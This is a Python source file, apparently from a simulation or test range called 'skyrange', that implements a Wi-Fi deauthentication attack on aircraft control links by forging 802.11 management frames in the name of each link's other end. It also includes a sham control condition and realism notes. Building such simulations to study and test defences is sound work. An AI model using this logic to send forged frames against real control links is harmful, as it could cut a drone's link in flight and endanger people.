"""Deauthentication: forged 802.11 management frames that end the association of a control link over Wi-Fi."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Literal

import skyrange.plugin as sky
from skyrange.attack.bases.wifi_links import OnWifiLinks
from skyrange.codec.wifi_management import NOBODY, FrameRequest, encode_deauthentication, pack_request


@sky.attack(
    "control_link.deauthenticate",
    effect="the control link has no association, so that nothing passes in either direction",
    knowledge="channel and addresses of both radios, which every frame tells",
    position="where both ends can decode its frames",
    equipment="a Wi-Fi card that sends frames as they are handed to it",
    budget="a frame of 30 bytes a link and period",
    load="the sham: the same frames at the same times, for an address that nobody has",
    content="the same frames at a link that protects management frames",
    placement="the same attacker beyond the range of both ends",
    realism={
        "reception": "simulated: power, noise and walls between attacker and receiver",
        "new association": "assumed: 400 ms by default; handoffs of 802.11 took 60 to 400 ms in measurements (Mishra, "
        "Shin & Arbaugh, 2003)",
    },
)
class Deauthenticate(OnWifiLinks):
    """Ends the Wi-Fi association of a control link by forged deauthentication frames."""

    towards: Literal["both", "aircraft", "station"] = sky.param(
        "Receivers of the frames; each frame is in the name of the link's other end.", default="both"
    )
    period_ms: sky.Number = sky.param("Time from round to round, in milliseconds.", default=100.0, ge=1, le=60_000)

    def prepare(self, context: sky.AttackContext) -> None:
        self.period_ns = round(self.period_ms * sky.NS_PER_MS)

    def send(self, now: sky.Time, number: int) -> Iterator[bytes]:
        for link in self.targets:
            if self.towards != "station":
                yield self._frame(link, link.aircraft_address, link.station_address)
            if self.towards != "aircraft":
                yield self._frame(link, link.station_address, link.aircraft_address)

    def _frame(self, link: sky.AirLink, destination: bytes, source: bytes) -> bytes:
        destination = NOBODY if self.sham else destination
        frame = encode_deauthentication(destination, source, link.station_address, self.turn)
        return pack_request(FrameRequest(link.channel, round(self.power_dbm * 100), frame))
